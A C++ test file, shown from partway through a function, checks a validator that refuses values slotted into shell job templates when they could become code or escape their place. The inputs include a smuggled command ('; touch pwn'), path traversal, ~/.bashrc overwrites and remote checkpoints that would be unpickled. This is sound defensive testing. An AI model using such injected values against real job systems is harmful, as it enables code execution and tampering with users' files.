    EXPECT_TRUE(refuses(pl, "../evil")) << build;
    EXPECT_TRUE(refuses(pl, "/home/other/evil")) << build;
    EXPECT_FALSE(refuses(pl, "trainer")) << build;
  }
  for (const char* tool : {"uv tool run %X%", "pixi exec %X%", "conda run -p ./env %X%"})
    EXPECT_TRUE(refused(task(tool), "placeholder-command")) << tool;
  // A line may not name a local project or archive pip builds (attack 221).
  const auto line = placement(task("echo \"%X%\" >> pins.txt\npip install -r pins.txt"));
  for (const char* local : {"./evilpkg", "/home/x/evilpkg", "evil.tar.gz", "x-1.0-py3-none-any.whl", "..\\x"})
    EXPECT_TRUE(refuses(line, local)) << local;
  // A list a download fills: the URL chooses the packages (attack 221).
  for (const char* list : {"curl -o requirements.txt \"https://%X%/reqs.txt\"",
                           "curl -o pins.txt \"https://%X%/reqs.txt\"\nuv pip sync pins.txt",
                           "wget -O env.txt \"https://%X%/e.txt\"\nconda install -y --file env.txt"})
    EXPECT_TRUE(refused(task(list), "value-parsed-as-code")) << list;
  EXPECT_FALSE(refused(task("curl -o data.json \"https://%X%/d.json\"\npython3 /opt/t.py --data data.json"),
                       "value-parsed-as-code"));
}

// A local path through a variable given only a value's text stays local
// unless the value holds a ':' (fr90/03), as the path written directly does.
TEST(ValueSinks, ARemotePathThroughAVariableIsRemoteOnlyByTheValuesColon) {
  for (const char* form : {"SRC=\"%X%\"\nrsync -a \"$SRC/\" \"$TMPDIR/data/\"", "rsync -a \"%X%/\" \"$TMPDIR/data/\"",
                           "S=\"/shared/%X%\"\nscp -r \"$S\" dest/"}) {
    const auto pl = placement(task(form));
    EXPECT_FALSE(refuses(pl, "/shared/datasets/coco 2017")) << form;
    EXPECT_TRUE(refuses(pl, "host:/x; touch pwn")) << form;
  }
  EXPECT_TRUE(refuses(placement(task("H=\"gpu1:%X%\"\nrsync -a \"$H/\" dest/")), "a b"));
}

// FR hunts 90 and 91: a download holds what the server sends, never the
// URL's text (a presigned URL's '&'); a variable given one name names that
// file, also through another variable's directory; mktemp's name from a
// template ending in its X's has no suffix of its own.
TEST(ValueSinks, DownloadsOneNamedScriptsAndMktempTemplatesAreWhatTheyAre) {
  EXPECT_FALSE(refuses(placement(task("curl -fsSL -o dataset.tar.gz \"%X%\"\ntar -xzf dataset.tar.gz -C data\n"
                                      "python3 train.py --data data")),
                       "https://example.com/d/c10.tar.gz?a=1&b=2"));
  const std::string entry = "D=\"$TMPDIR/run_$SLURM_JOB_ID\"\nE=\"$D/entry.py\"\ncat > \"$E\" <<'PY'\nimport sys, yaml\n"
                            "print(yaml.safe_load(open(sys.argv[1])))\nPY\nC=\"$D/config.yaml\"\ncat > \"$C\" <<EOF\nrun_name: %X%\nEOF\n";
  for (const char* run : {"srun python3 \"$E\" \"$C\"", "torchrun --standalone \"$E\" \"$C\""})
    EXPECT_FALSE(refuses(placement(task(entry + run)), "exp 1")) << run;
  const std::string cfg = "cat > \"$C\" <<EOF\nrun_name: \"%X%\"\nEOF\nsrun torchrun --standalone train.py --config \"$C\"";
  for (const char* make : {"C=$(mktemp \"${TMPDIR:-/tmp}/cfg.XXXXXX\")\n", "C=$(mktemp /tmp/cfg.XXXXXX)\n"})
    EXPECT_FALSE(refuses(placement(task(make + cfg)), "John's run v2")) << make;
  EXPECT_TRUE(refused(task("C=$(mktemp --suffix=.py)\n" + cfg), "value-parsed-as-code"));
}

// attack 214: a script a launcher starts (torchrun, deepspeed, accelerate
// launch, uv run, coverage run), also from an array run in place or through
// a function passing "$@", may be a file the template writes under a name
// chosen at run time, as python3's may.
TEST(ValueSinks, LaunchersRunAFileWrittenUnderANameChosenAtRunTime) {
  for (const char* run : {"python3 train.py", "torchrun --standalone --nproc_per_node=4 train.py", "srun torchrun train.py",
                          "deepspeed --num_gpus 2 train.py", "accelerate launch --num_processes 2 train.py", "uv run train.py",
                          "coverage run train.py", "L=(python3 -u train.py)\n\"${L[@]}\"",
                          "retry() { \"$@\" || \"$@\"; }\nretry python3 train.py"}) {
    EXPECT_TRUE(refused(task(std::string("echo \"lr: %X%\" > \"$OUT\"\n") + run + " --config \"$OUT\""),
                        "value-parsed-as-code"))
        << run;
    EXPECT_FALSE(refused(task(std::string("echo \"lr: %X%\" > notes.txt\n") + run), "value-parsed-as-code")) << run;
  }
}

// attack 218: what a decompressor makes is named by its operand without the
// suffix (lzma -d prep.sh.lzma makes prep.sh); a file written through a
// variable given a code file's name is code, whatever runs it.
TEST(ValueSinks, DecompressorsAndCodeFilesNamedThroughVariables) {
  for (const char* unpack : {"lzma -df", "unlzma", "lzip -d", "uncompress", "unpigz", "brotli -d", "lzop -d", "pbzip2 -d"}) {
    const auto pl = placement(task(std::string("A=\"%X%\"\ncp \"/shared/$A\" .\n") + unpack + " \"$A\"\nbash ./prep.sh"));
    EXPECT_TRUE(refuses(pl, "prep.sh.lzma")) << unpack;
    EXPECT_TRUE(refuses(pl, "prep.sh.Z")) << unpack;
    EXPECT_FALSE(refuses(pl, "train_shards.tar.lzma")) << unpack;
  }
  for (const char* run : {"torchrun --standalone \"$E\"", "deepspeed \"$E\"", "coverage run \"$E\"",
                          "PYTHONPATH=\"$D\" python3 -m entry", "PYTHONPATH=\"$D\" python3 -c 'import entry'"})
    EXPECT_TRUE(refused(task(std::string("D=\"$TMPDIR/run\"\nE=\"$D/entry.py\"\ncat > \"$E\" <<PY\nlr = \"%X%\"\nPY\n") + run),
                        "value-parsed-as-code"))
        << run;
  EXPECT_FALSE(refused(task("D=\"$TMPDIR/run\"\nE=\"$D/notes.txt\"\ncat > \"$E\" <<TXT\nnote: %X%\nTXT\ntorchrun train.py"),
                       "value-parsed-as-code"));
}

// attack 216: a pattern cutting the end of a name the job writes leaves
// the name the file gets (${LOG%.gz} of train.py.gz is train.py); of two
// values, the cut may end it in either.
TEST(ValueSinks, ANameCutAtItsEndIsReadAsTheCutLeavesIt) {
  for (const char* form : {"L=\"%X%\"\necho \"$N\" > \"${L%.gz}\"", "L=\"%X%\"\necho \"$N\" > \"${L%%.gz}\"",
                           "L=\"%X%\"\nF=\"${L%.gz}\"\necho \"$N\" > \"$F\"", "L=\"%X%\"\nF=\"$L\"\ncp /d/x \"${F%.gz}\""}) {
    const auto pl = placement(task(form));
    EXPECT_TRUE(refuses(pl, "train.py.gz")) << form;
    EXPECT_TRUE(refuses(pl, "train.py")) << form;  // (not cut: it does not end so)
    EXPECT_TRUE(refuses(pl, "...gz")) << form;      // ("..")
    EXPECT_FALSE(refuses(pl, "run.log.gz")) << form;
    EXPECT_FALSE(refuses(pl, "notes.py.txt")) << form;
  }
  // A pattern that may cut any end: any start of the value may be the name.
  const auto any = placement(task("L=\"%X%\"\necho \"$N\" > \"${L%.[a-z]*}\""));
  EXPECT_TRUE(refuses(any, "train.py.x"));
  EXPECT_FALSE(refuses(any, "run.log.gz"));
  // Text the template writes after the cut stays (${N%.py}.log).
  EXPECT_FALSE(refuses(placement(task("N=\"%X%\"\necho x > \"logs/${N%.py}.log\"")), "model.py"));
  // Two values in the cut name: FMT's part, and RUN's where FMT's is cut away.
  const auto pl = placements("R=\"%A%\"\nT=\"%B%\"\nF=\"${R}.${T}\"\necho \"$N\" > \"${F%.gz}\"");
  ASSERT_EQ(pl.size(), 2u);
  EXPECT_TRUE(refuses(pl[1], "py"));
  EXPECT_TRUE(refuses(pl[1], "py.gz"));
  EXPECT_TRUE(refuses(pl[0], "train.py"));
  EXPECT_FALSE(refuses(pl[0], "exp"));
  EXPECT_FALSE(refuses(pl[1], "json.gz"));
}

// Attack 215: a logging handler's filename: in a config the template
// writes names a file Python appends to: no ~/.bashrc, no script the job
// then runs, no '..'.
TEST(ValueSinks, ALoggingFileNamedInAConfigIsAFileTheJobWrites) {
  for (const char* form : {"cat > logging.yaml <<EOF\nhandlers:\n  file:\n    class: logging.FileHandler\n    filename: %X%\nEOF",
                           "cat > log.json <<'EOF'\n{\"handlers\": {\"f\": {\"filename\": \"%X%\"}}}\nEOF"}) {
    const auto pl = placement(task(form));
    for (const char* bad : {"/home/u/.bashrc", "scripts/evaluate.sh", "../../x", ".bashrc"})
      EXPECT_TRUE(refuses(pl, bad)) << form << " " << bad;
    EXPECT_FALSE(refuses(pl, "logs/train.log")) << form;
  }
  EXPECT_FALSE(refuses(placement(task("cat > cfg.yaml <<EOF\nname: %X%\nEOF")), "scripts/evaluate.sh"));
}

// exec {fd}>>F; printf ... >&$fd writes F, where the template opens {fd}
// once (session 49 left every value refused after it); a second open makes
// a function's write go where its call finds fd (attack 226).
TEST(ValueSinks, AWriteThroughANamedDescriptorGoesToTheFileItOpened) {
  EXPECT_FALSE(refused(task("exec {fd}>>run.yaml\nprintf 'lr: %s\\n' \"%X%\" >&$fd\nsrun torchrun train.py --config run.yaml"),
                       "value-parsed-as-code"));
  EXPECT_TRUE(refused(task("exec {fd}>>setup.log\nemit() { printf '%s\\n' \"$@\" >&$fd; }\nexec {fd}>launch.sh\n"
                           "emit \"python3 train.py --lr %X%\"\nbash launch.sh"),
                      "value-parsed-as-code"));
  EXPECT_TRUE(refused(task("exec {fd}>>run.py\nprintf 'lr = %s\\n' \"%X%\" >&$fd\nsrun torchrun run.py"), "value-parsed-as-code"));
}

// ${!var} expands whichever variable var names: a word holding it has the
// roles of every variable's value, checked whole (attack 211: a loop over
// names downloading each to "${!var}" wrote train.py, ../../x, ~/.bashrc).
TEST(ValueSinks, IndirectionReachesEveryVariable) {
  for (const char* form : {"C=config.json\nV=\"%X%\"\nfor var in C V; do curl -fsS -o \"${!var}\" \"$URL/${var,,}\"; done",
                           "V=%X%\nvar=V\necho hi > \"${!var}\"", "V=%X%\nn=V\ncp a.yaml \"${!n}\"",
                           "V=%X%\nn=V\ncat > \"out/${!n}\" <<EOF\nx\nEOF"}) {
    const auto pl = placement(task(form));
    for (const char* bad : {"train.py", "../../x", "/home/u/.bashrc", "~/.bashrc"})
      EXPECT_TRUE(refuses(pl, bad) || (std::string_view(form).find("out/") != std::string_view::npos && bad[0] != '.'))
          << form << " " << bad;
    EXPECT_FALSE(refuses(pl, "vocab.txt")) << form;
  }
  // A here-document body holding ${!n} is the text of any variable.
  EXPECT_TRUE(refused(with("V=@\nn=V\ncat > run.sh <<EOF\necho ${!n}\nEOF\nbash run.sh"), "value-parsed-as-code"));
  EXPECT_FALSE(refused(with("V=@\nn=V\ncat > run.sh <<'EOF'\necho ${!n}\nEOF\nbash run.sh"), "value-parsed-as-code"));
}

// A value naming the checkpoint, weights or saved model a program restores
// names code: torch.load unpickles it (LightningCLI's fit --ckpt_path,
// argparse --resume, Megatron --load), a .nemo file's config names the
// classes NeMo builds, and torch.hub or fsspec fetch a URL's. It names a
// file as a script's name does, and no URL (attack 222).
TEST(ValueSinks, ACheckpointAProgramRestoresIsNamedAsCodeIs) {
  for (const char* form :
       {"srun python3 train.py fit --config configs/base.yaml --ckpt_path \"%X%\"", "python3 train.py --resume=%X%",
        "torchrun --nproc_per_node=8 pretrain.py --load \"%X%\"", "python3 eval.py model.restore_from_path=%X%",
        "python3 run.py +trainer.resume_from_checkpoint=\"%X%\"", "./trainer --weights \"%X%\"",
        "bash run.sh --resume \"%X%\"", "C=\"%X%\"\npython3 train.py --ckpt_path \"$C\"",
        "A=()\nif [ \"$RESUME\" = 1 ]; then A=(--ckpt_path \"%X%\"); fi\nsrun python3 train.py fit \"${A[@]}\"",
        "ARGS=\"--lr 3e-4 --resume %X%\"\npython3 train.py $ARGS", "ARGS=\"--ckpt_path=%X%\"\npython3 train.py \"$ARGS\"",
        "run() { srun python3 train.py \"$@\"; }\nrun --ckpt_path \"%X%\"",
        // (attack 223: appended lists, unquoted arrays, set --, a text
        // that appends to itself, configs the template writes, yacs keys)
        "OPTS=(--epochs 3)\nOPTS+=(--resume \"%X%\")\npython3 train.py ${OPTS[@]}",
        "set -- --resume \"%X%\"\npython3 train.py --epochs 10 \"$@\"",
        "ARGS=\"--epochs 3\"\nARGS=\"$ARGS --resume %X%\"\npython3 train.py $ARGS",
        "cat > cfg.yaml <<EOF\ntrainer:\n  max_epochs: 3\nckpt_path: %X%\nEOF\npython3 main.py fit --config cfg.yaml",
        "cat > cfg.yaml <<EOF\nresume:  # attack 225\n  enabled: true\n  path: %X%\nEOF\npython3 train.py --config cfg.yaml",
        "printf '{\"ckpt_path\": \"%s\"}' \"%X%\" > cfg.json\npython3 train.py --cfg cfg.json",
        "python3 train.py --pretrained \"%X%\"", "python3 tools/train_net.py --config-file c.yaml MODEL.WEIGHT \"%X%\"",
        "python3 train.py --init_model=%X%",
        // (attack 224: more spellings, a key in a variable or written by
        // an expansion, a copy into the file a key names)
        "torchrun --standalone multigpu.py --snapshot_path \"%X%\"", "python3 main.py --finetune \"%X%\"",
        "RESUME_OPT=--resume_from_checkpoint\npython3 train.py \"$RESUME_OPT\" \"%X%\"",
        "ARGS=()\nfor k in resume; do ARGS+=(\"--$k\" \"%X%\"); done\npython3 train.py \"${ARGS[@]}\""}) {
    const auto pl = placement(task(form));
    for (const char* bad : {"/shared/epoch=3.ckpt", "~/x.pt", "runs/../../tmp/x.ckpt", "https://h/x.ckpt", "s3://b/x.pt",
                            "simplecache::s3://b/x.pt"})
      EXPECT_TRUE(refuses(pl, bad)) << form << " " << bad;
    for (const char* good : {"runs/epoch=3.ckpt", "last.ckpt", "exp-1/model.nemo"})
      EXPECT_FALSE(refuses(pl, good)) << form << " " << good;
  }
  // A number after a key that only sounds close is no file (fr hunt 93).
  for (const char* form : {"python3 train.py --loss_weight %X%", "python3 train.py --teacher_temp=%X%",
                           "python3 train.py --pretrain_lr \"%X%\""})
    EXPECT_FALSE(refuses(placement(task(form)), ".5")) << form;
  // A command that resumes with a key written out reads its output
  // directory too (attack 225: nanoGPT's out_dir, the Trainer's output_dir).
  for (const char* form : {"python3 train.py --init_from=resume --out_dir=%X%",
                           "python3 run_clm.py --output_dir \"%X%\" --resume_from_checkpoint True",
                           "python3 translate.py -train_from %X%"})
    EXPECT_TRUE(refuses(placement(task(form)), "/other/run")) << form;
  EXPECT_FALSE(refuses(placement(task("python3 run_clm.py --output_dir \"%X%\"")), "/scratch/u/run"));
  // A copy into the file a key names: the copy's source is the checkpoint.
  const auto copy = placement(task("mkdir -p ckpt\ncp \"%X%\" ckpt/last.ckpt\npython3 train.py --resume ckpt/last.ckpt"));
  EXPECT_TRUE(refuses(copy, "/shared/epoch=3.ckpt"));
  EXPECT_TRUE(refuses(copy, "runs/../../x.ckpt"));
  EXPECT_FALSE(refuses(copy, "runs/epoch=3.ckpt"));
  // Under a directory the template names, the value stays there.
  const auto under = placement(task("python3 train.py --ckpt_path \"$CKPT_ROOT/%X%\""));
  EXPECT_TRUE(refuses(under, "../x.ckpt"));
  EXPECT_TRUE(refuses(under, "https://h/x.ckpt"));
  EXPECT_FALSE(refuses(under, "run7/last.ckpt"));
  // Options that only sound close, an output directory, a program of the
  // system, and text printed take any path.
  for (const char* form : {"python3 train.py --weight_decay %X%", "python3 train.py --output_dir \"%X%\"",
                           "python3 convert.py model.ckpt %X%", "python3 train.py --model_name_or_path \"%X%\"",
                           "python3 train.py --pretrained_model_name_or_path=%X%", "python3 train.py --init_method \"%X%\"",
                           "python3 train.py --class_weights \"%X%\"", "k=output_dir\npython3 train.py \"--$k\" \"%X%\"",
                           "cat > cfg.yaml <<EOF\nckpt_path: last.ckpt\ndata_dir: %X%\nEOF",
                           "cat > cfg.yaml <<EOF\nresume:\n  enabled: true\ndata:\n  root: %X%\nEOF",
                           "wget --load-cookies \"%X%\" https://example.org/x", "echo --resume \"%X%\"",
                           "ARGS=\"--out %X%\"\npython3 train.py $ARGS"})
    EXPECT_FALSE(refuses(placement(task(form)), "/scratch/u/runs/epoch=3.ckpt")) << form;
}
